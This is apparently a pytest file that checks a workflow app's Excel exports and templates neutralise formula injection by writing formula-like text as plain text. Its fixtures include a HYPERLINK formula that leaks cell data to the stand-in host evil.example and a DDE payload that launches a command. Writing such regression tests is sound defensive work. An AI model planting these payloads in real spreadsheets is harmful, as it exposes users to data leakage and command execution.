"""Excel exports never carry formulas (issue 11): text a spreadsheet would take for a formula (``=``, ``+``,
``-``, ``@``) is written as text by ``spreadsheets.safe_cell``, in every export: quarterly plans (one district,
the city's quarter workbook) and the Excel templates (roster, textbook catalogue). Read back with openpyxl."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.test_plans_helpers import edit_of, filing_in, fresh_spec_caches, open_q1, plan_of  # noqa: F401
from tests.test_web_helpers import login
from workflows import service
from workflows.models import Enterprise
from workflows.spreadsheets import safe_cell, write_template

EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
EVIL = [EVIL_NAME, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1"]


def assert_no_formulas(data: bytes) -> list:
    """Every cell of every sheet: no formula cell (openpyxl's data_type 'f'), no <f> element in the XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


@pytest.mark.parametrize("value", EVIL)
def test_safe_cell_writes_formula_like_text_as_text(value):  # type: ignore[no-untyped-def]
    data = write_template("表", [("列", "", 10)], [], rows=[[value, 12, -5, "普通文字"]])
    cells = {c.coordinate: c for c in assert_no_formulas(data)}
    assert (cells["A2"].value, cells["A2"].data_type) == (value, "s")
    assert (cells["B2"].value, cells["C2"].value, cells["D2"].value) == (12, -5, "普通文字")  # untouched
    assert safe_cell(12) == 12 and safe_cell("普通") == "普通" and safe_cell(None) is None


def test_plan_exports_write_hostile_text_as_text(app, session, world):  # type: ignore[no-untyped-def]
    a = filing_in(session, world, "ent-440106-1", 1, trainees=3)
    c = filing_in(session, world, "ent-440106-2", 3, trainees=2)
    enterprise = session.get(Enterprise, a.enterprise_id)
    enterprise.name = EVIL_NAME
    session.commit()
    open_q1(session)
    plan, instance = plan_of(session)
    edit = edit_of(plan, **{str(c.id): (True, "@SUM(1+1)")})
    edit.notes = "+cmd|' /C calc'!A0"
    service.save_plan(session, world.actor("review-440106"), instance.id, edit)

    district = login(app, "review-440106").get(f"/plans/{instance.id}/export.xlsx")
    assert district.status_code == 200
    values = [c.value for c in assert_no_formulas(district.data)]
    assert EVIL_NAME in values and "@SUM(1+1)" in values and "+cmd|' /C calc'!A0" in values
    service.submit_plan(session, world.actor("review-440106"), instance.id)
    quarter = login(app, "city").get(f"/plans/quarters/{plan.year}Q{plan.quarter}/export.xlsx")
    assert quarter.status_code == 200, quarter.status_code
    assert EVIL_NAME in [c.value for c in assert_no_formulas(quarter.data)]


def test_templates_are_formula_free(app, session, world):  # type: ignore[no-untyped-def]
    for data in (service.roster_template(), service.textbook_template()):
        assert_no_formulas(data)
